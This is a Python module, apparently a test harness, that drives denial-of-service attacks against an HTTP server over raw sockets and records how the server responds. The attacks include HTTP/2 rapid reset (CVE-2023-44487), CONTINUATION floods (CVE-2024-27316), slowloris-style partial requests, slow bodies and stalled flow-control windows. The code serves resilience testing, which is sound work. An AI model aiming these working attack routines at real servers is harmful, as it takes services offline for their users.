"""Attacks by raw sockets. Each function returns what the server did, or how long it took to close the connections."""

import functools
import random
import re
import select
import socket
import ssl
import subprocess
import threading
import time

from hpack import Encoder
from hyperframe.frame import ContinuationFrame, HeadersFrame, RstStreamFrame, SettingsFrame

from demo import PATIENCE, Address
from h2client import H2Client

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
H2_START = PREFACE + SettingsFrame(0).serialize()

# What a client may send without ever finishing a request head.
BEGINNINGS = {
    "nothing": b"",
    "a P": b"P",
    "half an HTTP/2 preface": PREFACE[:12],
    "a preface without SETTINGS": PREFACE,
    "an HTTP/2 connection without a request": H2_START,
    "half a head": b"GET / HTTP/1.1\r\nhost: ",
}


def connect(address: Address, data: bytes = b"") -> socket.socket:
    client = socket.create_connection(address, PATIENCE)
    client.sendall(data)
    return client


def closed_after(clients: list[socket.socket], seconds: float = PATIENCE) -> list[float]:
    """When each of these connections was closed by the server, in seconds from now. Those that were not are missing."""
    begin = time.monotonic()
    poll = select.poll()
    open_clients = {client.fileno(): client for client in clients}
    for fileno, client in open_clients.items():
        client.setblocking(False)
        poll.register(fileno, select.POLLIN)
    times = []
    while open_clients and time.monotonic() < begin + seconds:
        for fileno, _ in poll.poll(100):
            try:
                while open_clients[fileno].recv(65536):
                    pass
            except BlockingIOError:
                continue
            except OSError:
                pass
            times.append(time.monotonic() - begin)
            poll.unregister(fileno)
            open_clients.pop(fileno).close()
    return times


def silent(address: Address, beginning: bytes, count: int) -> list[float]:
    return closed_after([connect(address, beginning) for _ in range(count)])


class Conversation:
    """A connection that is written to, and read at the same time, until the server closes it."""

    def __init__(self, address: Address) -> None:
        self.socket = connect(address)
        self.received = b""
        self.closed = False
        self.reader = threading.Thread(target=self.read, daemon=True)
        self.reader.start()

    def read(self) -> None:
        try:
            while some := self.socket.recv(65536):
                self.received += some
        except OSError:
            pass
        self.closed = True

    def send(self, data: bytes) -> bool:
        """Whether the connection is still open."""
        try:
            self.socket.sendall(data)
        except OSError:
            return False
        return not self.closed

    def end(self, seconds: float = PATIENCE) -> bool:
        """Whether the server has closed the connection."""
        self.reader.join(seconds)
        closed = self.closed
        self.socket.close()
        return closed

    def goaway(self) -> int | None:
        """The error code of the GOAWAY."""
        found = re.search(rb"\x07\0\0\0\0\0[\0-\xff]{4}\0\0\0([\0-\xff])", self.received)
        return found[1][0] if found else None


def get(encoder: Encoder, path: str) -> bytes:
    return encoder.encode([(":method", "GET"), (":scheme", "http"), (":authority", "localhost"), (":path", path)])


def rapid_reset(address: Address, streams: int, path: str) -> Conversation:
    """CVE-2023-44487: opens streams and resets each at once."""
    encoder = Encoder()
    client = Conversation(address)
    client.send(H2_START)
    for first in range(0, streams, 100):
        batch = b""
        for stream in range(2 * first + 1, 2 * (first + 100) + 1, 2):
            batch += HeadersFrame(stream, get(encoder, path), flags=["END_HEADERS", "END_STREAM"]).serialize()
            batch += RstStreamFrame(stream, 8).serialize()
        if not client.send(batch):
            break
    return client


def patient_resets(address: Address, streams: int) -> tuple[int, int | None]:
    """What a browser does when its user goes from page to page: no attack. How many responses began, and the GOAWAY."""
    client = H2Client(address)
    begun = 0
    for _ in range(streams):
        stream = client.begin("/events?count=0&interval_ms=1")
        while stream not in client.status:
            if not client.step() or stream in client.reset:
                return begun, client.goaway
        begun += 1
        client.connection.reset_stream(stream, 8)
        client.flush()
    client.close()
    return begun, client.goaway


def continuation_flood(address: Address, size: int, most: int) -> tuple[Conversation, int]:
    """CVE-2024-27316: a head that never ends, in CONTINUATION frames of this size. The client, and how many it sent."""
    client = Conversation(address)
    client.send(H2_START)
    client.send(HeadersFrame(1, get(Encoder(), "/whoami"), flags=["END_STREAM"]).serialize())
    # A literal that is not indexed, with a name and a value of its own: x: (size - 7) bytes.
    field = b""
    if size:
        length = size - 7
        field = b"\0\x01x\x7f" + bytes([(length - 127) % 128 | 128, (length - 127) >> 7 & 127 | 128, (length - 127) >> 14])
        field += b"a" * length
    frames = ContinuationFrame(1, field).serialize() * 16
    sent = 0
    while sent < most and client.send(frames):
        sent += 16
    return client, sent


def large_head(address: Address, size: int) -> bytes:
    """The status of a request with a head of this size over HTTP/1.1; nothing if the connection was closed."""
    client = Conversation(address)
    client.send(b"GET /whoami HTTP/1.1\r\nhost: a\r\nconnection: close\r\nx: ")
    client.send(b"x" * size + b"\r\n\r\n")
    client.end()
    return client.received[9:12]


def large_h2_head(address: Address, size: int) -> tuple[str | None, int | None]:
    """The same over HTTP/2, by a client that heeds no SETTINGS: status and GOAWAY."""
    encoder = Encoder()
    block = get(encoder, "/whoami")
    block += encoder.encode([(f"x-{n}", "x" * 4000) for n in range(size // 4000)], huffman=False)
    client = Conversation(address)
    client.send(H2_START)
    parts = [block[at : at + 16384] for at in range(0, len(block), 16384)]
    client.send(HeadersFrame(1, parts[0], flags=["END_STREAM"]).serialize())
    for part in parts[1:-1]:
        client.send(ContinuationFrame(1, part).serialize())
    client.send(ContinuationFrame(1, parts[-1], flags=["END_HEADERS"]).serialize())
    # 431 is no entry of the static table of HPACK: a literal, and by the h2 crate huffman-coded
    client.end(0.5)
    status = "431" if b"\x68\x11" in client.received or b"431" in client.received else None
    return status, client.goaway()


@functools.cache
def client_hello() -> bytes:
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    context = ssl.create_default_context()
    try:
        context.wrap_bio(incoming, outgoing, server_hostname="localhost").do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


def garbage(address: Address, count: int, seed: int) -> list[float]:
    """Random bytes, random bytes after a preface, and a TLS handshake, for a server that speaks another language."""
    bytes_of = random.Random(seed)
    clients = []
    for n in range(count):
        data = bytes_of.randbytes(bytes_of.randrange(1, 4096))
        clients.append(Conversation(address))
        clients[-1].send([data, H2_START + data, client_hello(), b"\0" * 4096][n % 4])
    begin = time.monotonic()
    return [time.monotonic() - begin for client in clients if client.end()]


class Inactive:
    """Clients that neither read nor send any more, and when the server closed their connections."""

    def __init__(self) -> None:
        self.began: dict[int, float] = {}
        self.clients: list[socket.socket] = []
        self.closed: list[float] = []
        self.watch = threading.Thread(target=self.wait, daemon=True)

    def add(self, client: socket.socket) -> None:
        """From now on it is inactive."""
        self.clients.append(client)
        self.began[client.fileno()] = time.monotonic()

    def wait(self) -> None:
        poll = select.poll()
        for client in self.clients:
            poll.register(client, select.POLLRDHUP)
        while len(self.closed) < len(self.clients):
            for fileno, _ in poll.poll(1000):
                poll.unregister(fileno)
                self.closed.append(time.monotonic() - self.began[fileno])


def vanished(address: Address, count: int) -> Inactive:
    """HTTP/2 clients with a quiet stream each, that do not answer a PING: as if their cable was cut."""
    head = get(Encoder(), "/events?count=0&interval_ms=600000")
    request = HeadersFrame(1, head, flags=["END_HEADERS", "END_STREAM"]).serialize()
    ack = SettingsFrame(0, flags=["ACK"]).serialize()
    clients = Inactive()
    for _ in range(count):
        clients.add(connect(address, H2_START + request + ack))
    clients.watch.start()
    return clients


def stopped_readers(address: Address, count: int) -> Inactive:
    """HTTP/1.1 clients that read 64 KiB of an endless stream, and then nothing."""
    clients = Inactive()
    for _ in range(count):
        client = socket.socket()
        client.settimeout(PATIENCE)
        client.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        client.connect(address)
        client.sendall(b"GET /events?count=0&interval_ms=0&bytes=10000 HTTP/1.1\r\nhost: a\r\n\r\n")
        received = 0
        while received < 65536:
            received += len(client.recv(4096))
        clients.add(client)
    clients.watch.start()
    return clients


def slow_bodies(address: Address, count: int) -> Inactive:
    """HTTP/1.1 clients that send a byte of their request body, and then nothing."""
    clients = Inactive()
    for _ in range(count):
        clients.add(connect(address, b"PUT /upload HTTP/1.1\r\nhost: a\r\ncontent-length: 1000\r\n\r\nx"))
    clients.watch.start()
    return clients


def stalled_stream(address: Address, count: int) -> object:
    """An HTTP/2 client that reads all of its streams but one. How the stalled stream and its `count` neighbours ended."""
    client = H2Client(address)
    client.connection.increment_flow_control_window(10_000_000)
    stalled = client.begin("/bytes?size=1000000")
    client.unread.add(stalled)
    neighbours = [client.begin("/lines?count=60&interval_ms=100") for _ in range(count)]
    while not client.ended.issuperset(neighbours):
        if not client.step():
            return "the connection was closed"
    # At the latest when its window opens, the stream is reset.
    client.unread.clear()
    if stalled not in client.reset:
        client.connection.increment_flow_control_window(1_000_000, stalled)
        client.flush()
    while stalled not in client.reset and stalled not in client.ended:
        if not client.step():
            return "the connection was closed instead of the stream"
    client.close()
    whole = [client.body[stream].count(b"\n") for stream in neighbours]
    return client.reset.get(stalled), whole


def stalled_connection(address: Address) -> bool:
    """An HTTP/2 client that lets the window of its connection run out, with two streams that have bytes and one that has none.
    Whether the server closes the connection."""
    client = H2Client(address)
    quiet = client.begin("/events?count=0&interval_ms=600000")
    while not client.body[quiet]:
        client.step()
    for _ in range(2):
        client.unread.add(client.begin("/bytes?size=1000000"))
    try:
        while client.step():
            pass
    except ConnectionResetError:
        pass
    return True


def slowhttptest(url: str, mode: str, *options: str) -> tuple[str, int, int]:
    """Why it ended, after how many seconds, and how often it found the service not available."""
    command = ["slowhttptest", mode, "-u", url, *options]
    output = subprocess.run(command, capture_output=True, text=True, timeout=120).stdout
    output = re.sub(r"\x1b\[[0-9;]*m", "", output)
    seconds = re.search(r"Test ended on (\d+)", output)
    status = re.search(r"Exit status:\s*(.*)", output)
    unavailable = len(re.findall(r"service available:\s*NO", output))
    if not seconds or not status:
        raise RuntimeError(output)
    return status[1].strip(), int(seconds[1]), unavailable
